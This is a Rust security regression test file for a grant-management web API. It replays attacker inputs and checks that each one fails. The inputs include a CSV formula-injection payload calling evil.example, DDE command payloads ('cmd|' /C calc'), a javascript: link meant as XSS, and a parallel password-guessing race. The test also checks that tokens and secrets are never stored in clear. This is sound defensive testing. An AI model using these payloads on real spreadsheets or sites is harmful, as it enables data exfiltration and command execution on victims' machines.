//! Attacks found by trying Pactum as an attacker would, replayed over HTTP: each must fail.

use actix_web::http::Method;
use serde_json::json;

use crate::fixtures::tenant;
use crate::helpers::TestApp;
use crate::on_both_backends;

on_both_backends!(
    a_formula_in_a_title_comes_out_of_the_csv_as_text,
    a_javascript_link_in_a_clause_is_not_a_link_and_every_response_is_protected,
    parallel_wrong_passwords_cannot_race_past_the_limit,
    made_up_methods_do_not_grow_the_metrics,
    the_bearer_scheme_is_read_in_any_case_by_the_idempotency_guard,
    no_token_or_secret_is_kept_in_clear,
    rotating_the_sealing_key_keeps_every_secret_usable,
);

/// A title a spreadsheet would run as a formula, as an attacker typed it into a grant.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/\"&A1,\"open\")";

/// Reads a CSV file the way a spreadsheet does and returns every cell it would run as a formula.
fn formulas_in(csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv_text.as_bytes());
    reader
        .records()
        .flat_map(|record| record.expect("valid CSV").iter().map(str::to_owned).collect::<Vec<_>>())
        .filter(|cell| pactum::domain::spreadsheet::is_formula(cell))
        .collect()
}

async fn a_formula_in_a_title_comes_out_of_the_csv_as_text(app: TestApp) {
    let root = app.signed_in("root@platform.example", "Root", true).await;
    let t = tenant(&app, &root, "a").await;
    let created = app
        .post_as(
            &t.treasurer,
            "/api/v1/grants",
            json!({"fund_id": t.fund_id, "network_id": t.network_id, "title": FORMULA,
                "requested_cents": 10_000, "starts_on": "2026-06-01", "ends_on": "2026-08-31",
                "payee": {"iban": "NL91ABNA0417164300", "name": "@SUM(1+1)*cmd|' /C calc'!A0"}}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    let expense = json!({"expenses": [{"spent_on": "2026-03-02", "description": "+1+cmd|' /C calc'!A0",
        "category": "-2+3", "amount_cents": 4250}]});
    let patched = app
        .call(&t.treasurer, Method::PATCH, &format!("/api/v1/reports/{}", t.report_id), Some(expense))
        .await;
    assert_eq!(patched.status, 200, "{}", patched.text());

    let grants = app.get_as(&t.officer, &format!("/api/v1/funds/{}/grants.csv", t.fund_id)).await;
    assert_eq!(grants.status, 200, "{}", grants.text());
    let text = grants.text();
    assert!(text.contains(&format!("'{}", FORMULA.replace('"', "\"\""))), "{text}");
    assert_eq!(formulas_in(&text), Vec::<String>::new());

    let expenses = app.get_as(&t.treasurer, &format!("/api/v1/grants/{}/expenses.csv", t.grant_id)).await;
    let text = expenses.text();
    assert!(text.contains("'+1+cmd") && text.contains(",'-2+3,42.50,"), "{text}");
    assert_eq!(formulas_in(&text), Vec::<String>::new());
}

async fn a_javascript_link_in_a_clause_is_not_a_link_and_every_response_is_protected(app: TestApp) {
    let root = app.signed_in("root@platform.example", "Root", true).await;
    let t = tenant(&app, &root, "a").await;
    let created = app
        .post_as(
            &t.officer,
            "/api/v1/agreements",
            json!({"municipality_id": t.municipality_id, "title": "Buurtkamer",
                "parties": [{"type": "network", "id": t.network_id}], "starts_on": "2027-01-01",
                "body": "1. Zie [de afspraken](javascript:alert(document.domain)) en [de site](https://lindendaal.example).\n"}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    let id = created.json()["id"].as_str().unwrap().to_owned();
    let document = app.get_as(&t.officer, &format!("/api/v1/agreements/{id}/versions/1/document")).await;
    assert_eq!(document.status, 200, "{}", document.text());
    let html = document.text();
    assert!(!html.to_lowercase().contains("javascript:"), "{html}");
    assert!(
        html.contains("de afspraken") && html.contains("<a href=\"https://lindendaal.example\">"),
        "{html}"
    );
    let policy = document.header("content-security-policy").expect("a CSP on HTML");
    assert!(policy.contains("script-src 'self'"), "{policy}");
    assert!(!policy.split(';').any(|d| d.contains("script-src") && d.contains("unsafe")), "{policy}");
    assert!(policy.contains("frame-ancestors 'none'"), "{policy}");

    // Every kind of response: JSON, a problem, CSV, a receipt, the docs.
    let receipt = app.get_as(&t.treasurer, &format!("/api/v1/receipts/{}", t.receipt_id)).await;
    assert_eq!(receipt.status, 200);
    let problem = app.get("/api/v1/grants").await;
    let csv = app.get_as(&t.officer, &format!("/api/v1/funds/{}/grants.csv", t.fund_id)).await;
    let json = app.get_as(&t.officer, "/api/v1/me").await;
    let docs = app.get("/docs/").await;
    for reply in [&document, &receipt, &problem, &csv, &json, &docs] {
        assert_eq!(reply.header("x-content-type-options"), Some("nosniff"));
        assert_eq!(reply.header("referrer-policy"), Some("no-referrer"));
        let policy = reply.header("content-security-policy").expect("a CSP");
        assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
    }
    assert_eq!(receipt.header("content-security-policy"), Some("default-src 'none'; frame-ancestors 'none'"));
    // The API reference runs no inline script, so it works under the page policy.
    assert_eq!(docs.status, 200);
    let docs_html = docs.text();
    assert!(
        !docs_html.contains("<script>") && !docs_html.contains("<script type=\"text/javascript\">"),
        "{docs_html}"
    );
}

async fn parallel_wrong_passwords_cannot_race_past_the_limit(app: TestApp) {
    app.create_user("dirk@gemeente.example", "Dirk", false).await;
    let limit = app.state.settings.login_attempts_per_account as usize;
    let wrong = json!({"email": "dirk@gemeente.example", "password": "guess guess guess"});
    let attempts = (0..40).map(|_| app.post_json("/api/v1/auth/login", &wrong));
    let replies = futures_util::future::join_all(attempts).await;
    let checked = replies.iter().filter(|r| r.status == 401).count();
    let refused = replies.iter().filter(|r| r.status == 429).count();
    assert_eq!((checked, refused), (limit, 40 - limit));
}

async fn made_up_methods_do_not_grow_the_metrics(app: TestApp) {
    for i in 0..20 {
        let method = Method::from_bytes(format!("PROBE{i}").as_bytes()).unwrap();
        let reply = app.send(app.request(method, &format!("/api/v1/nothing-{i}")), None).await;
        assert!(reply.status >= 400, "{}", reply.status);
    }
    let metrics = app.get("/metrics").await.text();
    assert!(!metrics.contains("PROBE"), "made-up methods became labels");
    assert!(!metrics.contains("nothing-"), "made-up paths became labels");
    assert!(metrics.contains("method=\"other\""), "{metrics}");
}

async fn the_bearer_scheme_is_read_in_any_case_by_the_idempotency_guard(app: TestApp) {
    let root = app.signed_in("root@platform.example", "Root", true).await;
    let send = || {
        let request = app
            .request(Method::POST, "/api/v1/municipalities")
            .insert_header(("Authorization", format!("BEARER {}", root.token)))
            .insert_header(("Idempotency-Key", "one-municipality"))
            .content_type("application/json");
        app.send(request, Some(json!({"name": "Gemeente Hoofdletters"}).to_string().into()))
    };
    let (first, second) = (send().await, send().await);
    assert_eq!((first.status, second.status), (201, 201), "{}", second.text());
    assert_eq!(second.header("idempotent-replayed"), Some("true"));
    assert_eq!(first.json()["id"], second.json()["id"]);
    let all = app.get_as(&root, "/api/v1/municipalities").await.json();
    assert_eq!(all["items"].as_array().unwrap().len(), 1, "created once");
}

/// Everything the database holds, as text: the SQLite file and its write-ahead log byte for
/// byte, or every row of every PostgreSQL table (binary columns as hex).
async fn database_contents(app: &TestApp) -> String {
    match app.backend {
        crate::helpers::Backend::Sqlite => {
            let dir = app.database.dir.path();
            let mut bytes = Vec::new();
            for file in ["pactum.db", "pactum.db-wal"] {
                bytes.extend(std::fs::read(dir.join(file)).unwrap_or_default());
            }
            String::from_utf8_lossy(&bytes).into_owned()
        }
        crate::helpers::Backend::Postgres => app
            .state
            .db
            .run(|conn| {
                use diesel::prelude::*;
                use diesel::sql_types::Text;
                #[derive(QueryableByName)]
                struct Row {
                    #[diesel(sql_type = Text)]
                    text: String,
                }
                let tables: Vec<Row> = diesel::sql_query(
                    "SELECT table_name AS text FROM information_schema.tables WHERE table_schema = 'public'",
                )
                .load(conn)?;
                let mut all = String::new();
                for table in tables {
                    let rows: Vec<Row> = diesel::sql_query(format!(
                        "SELECT coalesce(string_agg(t::text, E'\\n'), '') AS text FROM \"{}\" t",
                        table.text
                    ))
                    .load(conn)?;
                    all.extend(rows.into_iter().map(|r| r.text + "\n"));
                }
                Ok(all)
            })
            .await
            .unwrap(),
    }
}

/// A webhook subscription of `t`'s municipality: its id and its secret, shown once.
async fn subscribe(app: &TestApp, t: &crate::fixtures::Tenant) -> (String, String) {
    let hook = app
        .post_as(
            &t.admin,
            "/api/v1/webhooks",
            json!({"municipality_id": t.municipality_id,
                "url": "https://finance.example/hooks", "event_types": ["grant.approved"]}),
        )
        .await;
    assert_eq!(hook.status, 201, "{}", hook.text());
    let body = hook.json();
    (body["id"].as_str().unwrap().to_owned(), body["secret"].as_str().unwrap().to_owned())
}

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

/// The attack: the idempotency store kept whole answers for a day, so tokens created with an
/// `Idempotency-Key` sat in the database in clear; so did webhook secrets and emailed links.
async fn no_token_or_secret_is_kept_in_clear(app: TestApp) {
    let root = app.signed_in("root@platform.example", "Root", true).await;
    // The fixture creates a service account token and a webhook subscription with keys.
    let t = tenant(&app, &root, "a").await;
    let mut secrets = vec![t.service_account.token.clone()];

    let accounts = format!(
        "/api/v1/municipalities/{}/service-accounts/{}/tokens",
        t.municipality_id, t.service_account.id
    );
    let issue = || {
        let request = app
            .request(Method::POST, &accounts)
            .insert_header(("Authorization", format!("Bearer {}", t.admin.token)))
            .insert_header(("Idempotency-Key", "token-once"))
            .content_type("application/json");
        app.send(request, Some("{}".into()))
    };
    let issued = issue().await;
    assert_eq!(issued.status, 201, "{}", issued.text());
    secrets.push(issued.json()["token"].as_str().unwrap().to_owned());
    // The same request again: it was done, and its secret is not repeated.
    let replay = issue().await;
    let problem = replay.assert_problem(409, "secret_shown_once");
    assert!(!replay.text().contains("pct_"), "{problem}");

    let (id, secret) = subscribe(&app, &t).await;
    secrets.push(secret);
    let rotated = app.post_as(&t.admin, &format!("/api/v1/webhooks/{id}/rotate-secret"), json!({})).await;
    assert_eq!(rotated.status, 200, "{}", rotated.text());
    secrets.push(rotated.json()["secret"].as_str().unwrap().to_owned());

    let calendar = app.post_as(&t.treasurer, "/api/v1/me/calendar-token", json!({})).await;
    assert_eq!(calendar.status, 201, "{}", calendar.text());
    secrets
        .push(calendar.json()["calendar_url"].as_str().unwrap().split_once("token=").unwrap().1.to_owned());

    let login = app.login(&t.officer.email).await;
    secrets.push(login["refresh_token"].as_str().unwrap().to_owned());
    secrets.push(login["access_token"].as_str().unwrap().to_owned());

    // Links that travel by email: an invitation, a password reset, a contact confirmation.
    let invited = app
        .post_as(
            &t.admin,
            &format!("/api/v1/municipalities/{}/members", t.municipality_id),
            json!({"email": "nieuw@a.example", "name": "Nieuw", "role": "officer"}),
        )
        .await;
    assert_eq!(invited.status, 201, "{}", invited.text());
    assert!(!invited.text().contains("inv_"), "{}", invited.text());
    let invitation = app.invitation_path(invited.json()["id"].as_str().unwrap()).await;
    let reset = app.post_json("/api/v1/auth/password-reset", &json!({"email": t.officer.email})).await;
    assert_eq!(reset.status, 202);
    let emails = app.emails_to(&t.officer.email).await;
    let reset = emails.iter().find(|m| m.kind == "password_reset").expect("a reset email");
    let network_contact =
        app.get_as(&t.coordinator, &format!("/api/v1/networks/{}", t.network_id)).await.json();
    let contact = app.emails_to(network_contact["contact_email"].as_str().unwrap()).await;
    let confirmation =
        contact.iter().find(|m| m.kind == "contact_confirmation").expect("a confirmation email");
    for (text, prefix) in
        [(invitation.as_str(), "inv_"), (reset.text.as_str(), "pwr_"), (confirmation.text.as_str(), "ncf_")]
    {
        let start = text.find(prefix).unwrap_or_else(|| panic!("no {prefix} link in {text}"));
        let token: String = text[start..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-')
            .collect();
        secrets.push(token);
    }

    let contents = database_contents(&app).await;
    for secret in &secrets {
        // A token's random part, long enough to be unique, in clear or as hex.
        let tail = &secret[secret.len() - 24..];
        assert!(!contents.contains(tail), "a secret is in the database in clear: {}…", &secret[..8]);
        assert!(!contents.contains(&hex(tail)), "a secret is in the database as hex: {}…", &secret[..8]);
    }
    // Nor any other token of these kinds: a prefix is never followed by a whole secret (a
    // token's short hint, shown in token lists, may stay).
    for prefix in ["pct_", "whsec_", "cal_", "inv_", "pwr_", "ncf_", "prt_"] {
        for (at, _) in contents.match_indices(prefix) {
            let run = contents[at + prefix.len()..]
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-')
                .count();
            assert!(run < 20, "a whole {prefix} token is in the database");
        }
    }
}

async fn rotating_the_sealing_key_keeps_every_secret_usable(app: TestApp) {
    use pactum::auth::seal::SealKeys;
    let root = app.signed_in("root@platform.example", "Root", true).await;
    let t = tenant(&app, &root, "a").await;
    let (id, secret) = subscribe(&app, &t).await;
    // A subscription from before secrets were sealed: its secret in clear.
    let legacy = id.clone();
    app.state
        .db
        .run(move |conn| {
            use diesel::prelude::*;
            use pactum::db::schema::webhook_subscriptions as ws;
            Ok(diesel::update(ws::table.find(&t.webhook_id))
                .set(ws::secret.eq("whsec_legacy"))
                .execute(conn)?)
        })
        .await
        .unwrap();
    let old_key = std::fs::read_to_string(app.database.dir.path().join("secret-key")).unwrap();
    let new_key = "a brand new sealing key of more than thirty-two bytes";
    let rotating = SealKeys::new(new_key.as_bytes(), Some(old_key.trim().as_bytes()));
    let done =
        app.state.db.run(move |conn| pactum::auth::rotation::reseal_all(conn, &rotating)).await.unwrap();
    assert!(done.webhook_secrets >= 2 && done.emails >= 1, "{done:?}");

    let stored: Vec<(String, String)> = app
        .state
        .db
        .run(|conn| {
            use diesel::prelude::*;
            use pactum::db::schema::webhook_subscriptions as ws;
            Ok(ws::table.select((ws::id, ws::secret)).load(conn)?)
        })
        .await
        .unwrap();
    let only_new = SealKeys::new(new_key.as_bytes(), None);
    let only_old = SealKeys::new(old_key.trim().as_bytes(), None);
    let ours = &stored.iter().find(|(i, _)| *i == legacy).unwrap().1;
    assert_eq!(only_new.open(ours).unwrap(), secret, "the new key alone opens it");
    assert!(only_old.open(ours).is_err(), "the old key no longer does");
    assert!(stored.iter().all(|(_, s)| s.starts_with("sealed:v1:")), "the clear one was sealed too");
    assert!(stored.iter().any(|(_, s)| only_new.open(s).as_deref() == Ok("whsec_legacy")));
    let emails = app
        .state
        .db
        .run(move |conn| {
            pactum::outbox::messages_to(conn, &SealKeys::new(new_key.as_bytes(), None), &t.officer.email)
        })
        .await
        .unwrap();
    assert!(emails.iter().any(|m| m.kind == "invitation" && m.text.contains("/api/v1/invitations/inv_")));
}
